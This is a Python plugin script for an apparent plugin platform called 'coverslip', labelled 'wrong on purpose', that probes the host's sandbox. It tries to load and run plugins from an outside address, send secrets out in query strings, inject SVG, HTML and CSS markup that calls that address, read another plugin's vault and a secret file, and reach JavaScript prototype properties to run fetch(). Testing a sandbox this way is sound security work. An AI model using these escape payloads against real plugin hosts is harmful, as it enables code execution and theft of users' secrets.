# /// script
# requires-python = ">=3.11"
# dependencies = []
# [tool.coverslip]
# name = "Hostile host calls"
# version = "1.0.0"
# description = "Tries to make the app fetch, show or run things on its behalf."
# ///
"""Wrong on purpose: it asks the app itself to carry its secrets away, or to hand it what belongs to others."""

import asyncio
import inspect
import json
from collections.abc import Callable
from functools import partial
from pathlib import Path

from coverslip import Figure, Table, api, op, progress

SECONDS = 2.5
OBJECT_PROPERTIES = ("constructor", "__proto__", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "then")


def ways(address: str, site: str) -> dict[str, Callable[[], object]]:
    """What is tried, by name."""
    parts = f'<image href="{address}/svg.png"/><script href="{address}/svg.js"/>'
    picture = f'<svg xmlns="http://www.w3.org/2000/svg">{parts}</svg>'
    markup = (
        f'<img src="{address}/markup.png"><style>@import "{address}/markup.css";</style>![]({address}/markdown.png)'
    )

    async def read_another() -> object:
        vault = await api.getPlugin("Vault")
        names = ("tell", "secret", "load", "run", "connect", "__dict__", "__globals__")
        told = [await attempt(partial(call, vault, name)) for name in names]
        return [*told, await attempt(Path("/home/secret.txt").read_text)]

    async def walk() -> object:
        code = f"fetch('{address}/walk')"
        got = [await attempt(partial(call, it, name, code)) for it in (api, api.echo) for name in OBJECT_PROPERTIES]
        if any(outcome.startswith("got through") for outcome in got):
            return got
        raise PermissionError(str(got))

    async def show() -> object:
        await api.createWindow({"type": "text", "name": markup, "data": markup})
        await api.createWindow({"type": "table", "name": markup, "data": Table({markup: [markup]})})
        await api.createWindow(
            {"type": "figure", "name": markup, "data": Figure(picture.encode(), "image/svg+xml", markup)}
        )
        await api.createWindow({"type": "figure", "name": "page", "data": Figure(markup.encode(), "text/html", "page")})
        await api.showMessage(markup)
        await api.log(markup)
        await progress(0.5, markup)
        raise PermissionError("shown; only the collector knows")

    return {
        "getPlugin of an address": lambda: api.getPlugin(f"{address}/get.py?secret"),
        "getPlugin of a source": lambda: api.getPlugin({"src": f"{address}/source.py?secret"}),
        "getPlugin of the own site": lambda: api.getPlugin({"src": f"{site}leak.py?leak=getPlugin"}),
        "installPlugin": lambda: api.installPlugin({"src": f"{address}/install.py?secret"}),
        "installPlugin unasked": lambda: api.installPlugin({"src": f"{address}/unasked.py?secret", "confirm": False}),
        "run of an address": lambda: api.run(f"{address}/run.py?secret"),
        "call of an address": lambda: api.call(f"{address}/call.py?secret", "leak"),
        "openImage of an address": lambda: api.openImage(f"{address}/open.png?secret"),
        "openImage of the own site": lambda: api.openImage(f"{site}?leak=openImage"),
        "createWindow of an address": lambda: api.createWindow(
            {"type": f"{address}/window.html", "name": "x", "data": None}
        ),
        "createWindow with a source": lambda: api.createWindow({"type": "window", "src": f"{address}/window.html"}),
        "showing markup": show,
        "an alert with markup": lambda: api.alert(markup),
        "another plugin": read_another,
        "properties of the app's object": walk,
    }


def call(it: object, name: str, *args: object) -> object:
    """Call a method of an object by its name."""
    return getattr(it, name)(*args)


async def attempt(way: Callable[[], object]) -> str:
    """Try one way and say what came of it."""
    try:
        answer = way()
        if inspect.isawaitable(answer):
            answer = await asyncio.wait_for(answer, SECONDS)
        return f"got through: {answer}"
    except BaseException as error:
        return f"refused: {type(error).__name__}: {str(error)[:300]}"


@op(title="Escape")
async def escape(address: str, site: str) -> str:
    """Ask the app for everything; report as JSON what it did."""
    tried = ways(address, site)
    outcomes = await asyncio.gather(*(attempt(way) for way in tried.values()))
    return json.dumps(dict(zip(tried, outcomes, strict=True)))
